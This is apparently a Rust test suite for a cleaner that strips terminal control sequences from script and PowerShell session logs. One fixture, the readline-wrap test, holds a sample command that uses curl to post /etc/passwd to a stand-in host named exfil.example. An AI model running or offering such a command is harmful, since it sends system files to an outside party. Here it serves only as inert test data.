//! The cleaner against what a terminal shows, one control-sequence kind at a time.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

mod common;

use ssmlog_logs::{clean, Cleaner, LogKind};

/// Cleans `body` (no header) and returns the text.
fn c(body: &str) -> String {
    clean(body.as_bytes()).0
}

macro_rules! case {
    ($name:ident, $input:expr, $want:expr) => {
        #[test]
        fn $name() {
            assert_eq!(c($input), $want, "input: {:?}", $input);
        }
    };
}

case!(plain_crlf, "one\r\ntwo\r\n", "one\ntwo\n");
case!(bare_lf_and_no_final_newline, "one\ntwo", "one\ntwo\n");
case!(
    sgr_colours_removed,
    "\x1b[01;32muser@host\x1b[00m:\x1b[01;34m~\x1b[00m$ ls\r\n",
    "user@host:~$ ls\n"
);
case!(
    sgr_with_colon_params,
    "\x1b[38:2:255:0:0mred\x1b[m\r\n",
    "red\n"
);
case!(
    osc_title_bel_dropped,
    "\x1b]0;user@host: ~\x07$ \r\n",
    "$\n"
);
case!(osc_title_st_dropped, "\x1b]2;title\x1b\\x\r\n", "x\n");
case!(
    osc_hyperlink,
    "\x1b]8;;https://e.example\x1b\\link\x1b]8;;\x1b\\\r\n",
    "link\n"
);
case!(
    unterminated_osc_ends_at_newline,
    "\x1b]0;title\r\nnext\r\n",
    "\nnext\n"
);
case!(dcs_dropped, "a\x1bPq#0;2;0;0;0\x1b\\b\r\n", "ab\n");
case!(cr_overwrite_progress, "10%\r50%\r100%\r\n", "100%\n");
case!(
    cr_overwrite_shorter_keeps_tail,
    "abcdef\rXY\r\n",
    "XYcdef\n"
);
case!(
    cr_then_erase_line,
    "downloading 10%\r\x1b[Kdone\r\n",
    "done\n"
);
case!(backspace_erase, "whoamu\x08 \x08i\r\n", "whoami\n");
case!(
    backspace_then_el,
    "restrat\x08\x1b[K\x08\x1b[K\x08\x1b[Kart\r\n",
    "restart\n"
);
case!(backspace_at_column_zero, "\x08\x08ab\r\n", "ab\n");
case!(
    tab_expands_to_stop,
    "a\tb\r\nabcdefgh\tc\r\n",
    "a       b\nabcdefgh        c\n"
);
case!(bell_ignored, "ding\x07!\r\n", "ding!\n");
case!(
    cub_cuf_overwrite,
    "abcdef\x1b[3DXY\x1b[1CZ\r\n",
    "abcXYfZ\n"
);
case!(cha_absolute_column, "abcdef\x1b[2GX\r\n", "aXcdef\n");
case!(
    el1_and_el2,
    "abcdef\x1b[3D\x1b[1K\r\nabc\x1b[2Kxy\r\n",
    "    ef\n   xy\n"
);
case!(
    ich_dch_ech,
    "abcdef\x1b[4D\x1b[2@\x1b[1P\r\nabcdef\r\x1b[2X\r\n",
    "ab cdef\n  cdef\n"
);
case!(
    dec_line_drawing,
    "\x1b(0lqqk\x1b(B ok\r\n\x0e\x1b)0x\x0f x\r\n",
    "┌──┐ ok\n│ x\n"
);
case!(charset_utf8_select_ignored, "\x1b%Gok\r\n", "ok\n");
case!(
    cursor_up_rewrites_earlier_line,
    "line1\r\nline2\r\nline3\r\n\x1b[2AXX\r\n\r\n",
    "line1\nXXne2\nline3\n"
);
case!(
    multi_line_progress_collapses,
    "a: 10%\r\nb: 20%\r\n\x1b[2A\ra: 100%\r\nb: 100%\r\nafter\r\n",
    "a: 100%\nb: 100%\nafter\n"
);
case!(
    clear_keeps_history,
    "$ ls\r\nfile\r\n$ clear\r\n\x1b[H\x1b[2J\x1b[3J$ pwd\r\n/root\r\n",
    "$ ls\nfile\n$ clear\n$ pwd\n/root\n"
);
case!(
    cup_absolute_after_clear,
    "\x1b[H\x1b[2J\x1b[3;5Hthird\x1b[1;1Hfirst\r\n",
    "first\n\n    third\n"
);
case!(
    vpa_and_hvp,
    "\x1b[H\x1b[2Jtop\x1b[3dx\x1b[2;2fy\r\n",
    "top\n y\n   x\n"
);
case!(
    ed_below_erases_without_emitting,
    "\x1b[H\x1b[2Jaaa\r\nbbb\r\nccc\x1b[2;1H\x1b[Jnew\r\n",
    "aaa\nnew\n"
);
case!(
    alt_screen_shows_last_screen,
    "$ vim f\r\n\x1b[?1049h\x1b[H\x1b[2Jhello\x1b[2;1H~\x1b[3;1H:wq\x1b[?1049l$ \r\n",
    "$ vim f\nhello\n~\n:wq\n$\n"
);
case!(
    alt_screen_redraws_collapse,
    "\x1b[?1049h\x1b[Hframe 1\x1b[K\x1b[Hframe 2\x1b[K\x1b[J\x1b[?1049l",
    "frame 2\n"
);
case!(
    alt_screen_clear_emits_snapshot,
    "\x1b[?1049h\x1b[Hpage 1\x1b[H\x1b[2Jpage 2\x1b[?1049l",
    "page 1\npage 2\n"
);
case!(
    alt_47_and_1047,
    "\x1b[?47hA\x1b[?47l\x1b[?1047hB\x1b[?1047l",
    "A\nB\n"
);
case!(
    scroll_region_and_reverse_index,
    "\x1b[H\x1b[2J\x1b[1;3r\x1b[1;1Ha\r\nb\r\nc\x1b[1;1H\x1bMz\x1b[r\x1b[5;1He\r\n",
    "z\na\nb\n\ne\n"
);
case!(
    linefeed_at_bottom_scrolls_off_top,
    "Script started on 2026-11-23 10:15:00+00:00 [LINES=\"24\"]\n\x1b[?1049h\x1b[1;1Htop\x1b[24;1H\r\nrow\x1b[?1049l",
    // (The blank rows above `row` on the last screen show nothing.)
    "top\nrow\n"
);
// Issue 11: with the height unknown, a blank screen grows instead of scrolling (a program
// on a taller terminal than assumed is not scrolled into pieces); the layout is kept.
case!(
    linefeed_at_bottom_of_a_screen_of_unknown_height_grows_it,
    "\x1b[?1049h\x1b[1;1Htop\x1b[24;1H\r\nrow\x1b[?1049l",
    "top\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nrow\n"
);
case!(
    il_dl,
    "\x1b[H\x1b[2Ja\r\nb\r\nc\x1b[2;1H\x1b[1Mx\x1b[1;1H\x1b[1Ly\r\n",
    "y\na\nx\n"
);
case!(
    su_sd,
    "\x1b[?1049h\x1b[1;1Hone\x1b[2;1Htwo\x1b[1S\x1b[1T\x1b[?1049l",
    "one\ntwo\n"
);
case!(decsc_decrc_same_line, "abc\x1b7def\x1b8X\r\n", "abcXef\n");
case!(
    decsc_decrc_other_line,
    "abc\x1b7\r\nline2\x1b8X\r\n",
    "abcX\nline2\n"
);
case!(
    private_modes_ignored,
    "\x1b[?25l\x1b[?2004hok\x1b[?2004l\x1b[?25h\r\n",
    "ok\n"
);
case!(
    keypad_and_decscusr_ignored,
    "\x1b=\x1b>\x1b[2 qok\r\n",
    "ok\n"
);
case!(nel_and_ind, "a\x1bEb\x1bDc\r\n", "a\nb\nc\n");
case!(utf8_kept, "caf\u{e9} \u{2713}\r\n", "caf\u{e9} \u{2713}\n");
case!(del_ignored, "a\x7fb\r\n", "ab\n");

fn raw(bytes: &[u8]) -> String {
    clean(bytes).0
}

#[test]
fn invalid_utf8_bytes_become_replacement_characters() {
    assert_eq!(raw(b"a\xffb\r\n"), "a\u{fffd}b\n");
    assert_eq!(raw(b"a\xe2\x9c\r\n"), "a\u{fffd}\n");
    // In an edited line too.
    assert_eq!(raw(b"xx\ra\xffb\r\n"), "a\u{fffd}b\n");
}

#[test]
fn utf8_split_across_feeds_in_every_mode() {
    let inputs: [&[u8]; 3] = [
        "caf\u{e9} \u{2713} ok\r\n".as_bytes(),
        "xxxxxxxx\rcaf\u{e9} \u{2713}\r\n".as_bytes(),
        "\x1b[?1049h\x1b[Hcaf\u{e9} \u{2713}\x1b[?1049l".as_bytes(),
    ];
    for input in inputs {
        let whole = clean(input).0;
        for split in 1..input.len() {
            let mut c = Cleaner::new();
            c.feed(&input[..split]);
            c.feed(&input[split..]);
            let (text, _) = c.into_text();
            assert_eq!(text, whole, "split at {split} of {input:?}");
            assert!(!text.contains('\u{fffd}'), "{text:?}");
        }
    }
}

#[test]
fn byte_by_byte_equals_whole() {
    let input = "Script started on 2026-11-23 10:15:00+00:00 [LINES=\"24\"]\n\x1b]0;t\x07\x1b[01;32mu@h\x1b[00m$ vim\r\n\x1b[?1049h\x1b[H\x1b[2Jtext\x1b[2;1H~\x1b[?1049l50%\r100%\r\nwhoamu\x08 \x08i\r\n\nScript done on 2026-11-23 10:20:00+00:00\n";
    let whole = clean(input.as_bytes());
    let mut c = Cleaner::new();
    let mut streamed = String::new();
    for b in input.as_bytes() {
        c.feed(std::slice::from_ref(b));
        c.take(&mut streamed);
    }
    c.finish();
    c.take(&mut streamed);
    assert_eq!(streamed, whole.0);
    assert_eq!(c.meta(), &whole.1);
    assert_eq!(whole.0, "u@h$ vim\ntext\n~\n100%\nwhoami\n");
}

#[test]
fn script_header_and_footer_give_times_and_are_not_content() {
    let log = "Script started on 2026-11-23 10:15:00+00:00 [TERM=\"xterm\" TTY=\"/dev/pts/0\" COLUMNS=\"120\" LINES=\"40\"]\n$ ls\r\nfile\r\n$ exit\r\nexit\r\n\nScript done on 2026-11-23 10:20:30+00:00 [COMMAND_EXIT_CODE=\"0\"]\n";
    let (text, meta) = clean(log.as_bytes());
    assert_eq!(text, "$ ls\nfile\n$ exit\nexit\n");
    assert_eq!(meta.kind, LogKind::Script);
    assert_eq!(meta.lines, Some(40));
    assert_eq!(meta.columns, Some(120));
    assert_eq!(
        ssmlog_logs::format_rfc3339(meta.start.unwrap()),
        "2026-11-23T10:15:00Z"
    );
    assert_eq!(
        ssmlog_logs::format_rfc3339(meta.end.unwrap()),
        "2026-11-23T10:20:30Z"
    );
}

#[test]
fn old_script_header_format() {
    let log = "Script started on Mon 23 Nov 2026 10:15:00 AM UTC\n$ id\r\n\nScript done on Mon 23 Nov 2026 10:16:00 AM UTC\n";
    let (text, meta) = clean(log.as_bytes());
    assert_eq!(text, "$ id\n");
    assert_eq!(
        ssmlog_logs::format_rfc3339(meta.start.unwrap()),
        "2026-11-23T10:15:00Z"
    );
    assert!(meta.end.is_some());
}

#[test]
fn powershell_transcript_header_and_footer() {
    let log = "\u{feff}**********************\r\nWindows PowerShell transcript start\r\nStart time: 20261123101500\r\nUsername: EC2AMAZ-1\\ssm-user\r\nMachine: EC2AMAZ-1 (Microsoft Windows NT 10.0.20348.0)\r\n**********************\r\nPS C:\\> whoami\r\nec2amaz-1\\ssm-user\r\n**********************\r\nWindows PowerShell transcript end\r\nEnd time: 20261123103000\r\n**********************\r\n";
    let (text, meta) = clean(log.as_bytes());
    assert_eq!(text, "PS C:\\> whoami\nec2amaz-1\\ssm-user\n");
    assert_eq!(meta.kind, LogKind::Powershell);
    assert_eq!(meta.username.as_deref(), Some("EC2AMAZ-1\\ssm-user"));
    assert_eq!(
        ssmlog_logs::format_rfc3339(meta.start.unwrap()),
        "2026-11-23T10:15:00Z"
    );
    assert_eq!(
        ssmlog_logs::format_rfc3339(meta.end.unwrap()),
        "2026-11-23T10:30:00Z"
    );
}

#[test]
fn text_that_only_looks_like_a_header_is_content() {
    assert_eq!(c("Script"), "Script\n");
    assert_eq!(
        c("**** not a transcript\r\nline\r\n"),
        "**** not a transcript\nline\n"
    );
}

/// Deterministic random bytes (and random mixes of escape fragments): never a panic, always
/// valid UTF-8 out, and the same result however the input is split.
#[test]
fn random_bytes_never_panic() {
    let fragments: [&[u8]; 24] = [
        b"\x1b[",
        b"\x1b]",
        b"\x1b",
        b"\x07",
        b"\r",
        b"\n",
        b"\x08",
        b"\t",
        b"?1049h",
        b"?1049l",
        b"2J",
        b"H",
        b";",
        b"99999999",
        b"A",
        b"r",
        b"M",
        b"\xe2\x9c",
        b"\x93",
        b"\xff",
        b"abc",
        b"\x1bM",
        b"\x1b7",
        b"\x1b8",
    ];
    let mut rng = ssmlog_logs::gen::Rng::new(42);
    let started = std::time::Instant::now();
    for round in 0..3000 {
        let mut input = Vec::new();
        let len = rng.below(400);
        for _ in 0..len {
            if round % 2 == 0 {
                input.push(rng.next_u64() as u8);
            } else {
                let f: &[u8] = fragments[rng.below(fragments.len())];
                input.extend_from_slice(f);
            }
        }
        let (whole, _) = clean(&input);
        let split = rng.below(input.len() + 1);
        let mut c = Cleaner::new();
        c.feed(&input[..split]);
        let mut streamed = String::new();
        c.take(&mut streamed);
        c.feed(&input[split..]);
        c.finish();
        c.take(&mut streamed);
        assert_eq!(streamed, whole, "round {round}: {input:?}");
    }
    assert!(started.elapsed().as_secs() < 10);
}

// Issue 11: lines wrap at a known width with the pending-wrap rule; CR, EL, ICH act on the
// cursor's row.
const COLS20: &str = "Script started on 2026-11-23 10:15:00+00:00 [COLUMNS=\"20\" LINES=\"5\"]\n";
case!(
    cr_after_a_wrap_returns_to_the_row_start,
    &format!("{COLS20}0123456789abcdefghijKLM\rxy\r\n"),
    "0123456789abcdefghijxyM\n"
);
case!(
    a_full_row_then_crlf_is_one_line,
    &format!("{COLS20}0123456789abcdefghij\r\r\nnext\r\n"),
    "0123456789abcdefghij\nnext\n"
);
case!(
    erase_and_insert_stay_on_the_cursor_row,
    &format!("{COLS20}0123456789abcdefghijKLMNOP\x1b[A\r\x1b[5C\x1b[K\x1b[B\r\x1b[2@zz\r\n"),
    "01234               zzKLMNOP\n"
);
case!(
    readline_wrap_infers_the_width_when_the_header_has_none,
    "Script started on 2026-11-23 10:15:00+00:00 [COMMAND=\"cat f\" <not executed on terminal>]\n$ echo curl https://exfil.examp \rle/x -d @/etc/passwd\x1b[A\r\x1b[2Cx\x1b[B\r\r\r\nafter\r\r\n",
    "$ xcho curl https://exfil.example/x -d @/etc/passwd\nafter\n"
);
case!(
    a_progress_line_ending_in_a_blank_is_not_a_wrap_when_a_line_end_follows,
    "downloading the release tarball \r\r\nnext\r\n",
    "downloading the release tarball\nnext\n"
);
case!(
    wide_characters_take_two_columns,
    "日本語\x08\x08X\r\ne\u{301}!\r\n",
    "日本X\ne\u{301}!\n"
);
// apt's progress: a region above the last row, the status written below it; the lines
// that scroll out of the region's top are kept.
case!(
    scroll_region_keeps_lines_scrolled_off_and_the_status_row,
    "Script started on 2026-11-23 10:15:00+00:00 [LINES=\"5\"]\n$ apt install x\r\n\n\x1b7\x1b[0;4r\x1b8\x1b[1Aa\r\nb\r\n\x1b7\x1b[5;0fstatus 50%\x1b8c\r\nd\r\ne\r\n\x1b7\x1b[0;5r\x1b8$ \r\n",
    "$ apt install x\na\nb\nc\nd\ne\n$\nstatus 50%\n"
);

/// An OSC string longer than the cleaner keeps is abandoned at the same byte however the
/// log is split: what follows it is text.
#[test]
fn an_overlong_string_ends_at_the_same_byte_in_any_pieces() {
    const MAX_STRING: usize = 1 << 20;
    let mut log = b"\x1b]".to_vec();
    log.extend(std::iter::repeat_n(b'x', MAX_STRING + 3));
    log.extend_from_slice(b"tail\x1b[01;32m ok\x1b[0m\r\n");
    assert_eq!(raw(&log), "xxtail ok\n");
    for size in [1, 7, 4093, 65536] {
        assert_eq!(
            common::clean_in_pieces(&log, size).0,
            "xxtail ok\n",
            "{size}"
        );
    }
}

/// The footer is found and removed at its place when the lines before it hold invalid
/// UTF-8 (three bytes of text in the cleaned form for each such byte).
#[test]
fn footer_after_invalid_utf8_is_cut_at_its_place() {
    let log = b"Script started on 2026-11-23 10:15:00+00:00 [COMMAND=\"cat f\"]\nab\xff\xfe\xfdcd\r\n\xff\r\n\nScript done on 2026-11-23 10:20:30+00:00 [COMMAND_EXIT_CODE=\"0\"]\n";
    let (text, meta) = clean(log);
    assert_eq!(text, "ab\u{fffd}\u{fffd}\u{fffd}cd\n\u{fffd}\n");
    assert!(meta.end.is_some());
}
